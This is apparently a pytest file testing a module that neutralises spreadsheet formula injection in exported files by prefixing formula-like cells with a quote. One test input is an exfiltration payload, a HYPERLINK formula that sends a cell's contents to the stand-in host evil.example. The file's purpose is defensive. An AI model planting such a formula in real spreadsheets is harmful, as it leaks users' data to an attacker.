"""Cells of exported files are shown by a spreadsheet, never run (ponte/core/exports.py)."""

from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from ponte.core.exports import neutralised, neutralised_row, without_formulas

FORMULAS = ['=HYPERLINK("http://evil.example/?"&B3,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_becomes_text(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Laboratorio", "<5", "", None, 5, -3, Decimal("-1.5"), date(2025, 1, 1)]
)
def test_everything_else_passes_unchanged(value):
    assert neutralised(value) == value


def test_a_row_is_neutralised_cell_by_cell():
    assert neutralised_row(["=1+1", 2, "ok"]) == ["'=1+1", 2, "ok"]


def test_a_workbook_keeps_no_formula_whatever_wrote_it():
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet["A1"] = "=1+1"  # openpyxl stores it as a formula
    sheet["B1"] = 7
    assert sheet["A1"].data_type == "f"
    buffer = BytesIO()
    without_formulas(workbook).save(buffer)
    read = load_workbook(BytesIO(buffer.getvalue())).active
    assert read is not None
    assert (read["A1"].value, read["A1"].data_type) == ("'=1+1", "s")
    assert read["B1"].value == 7
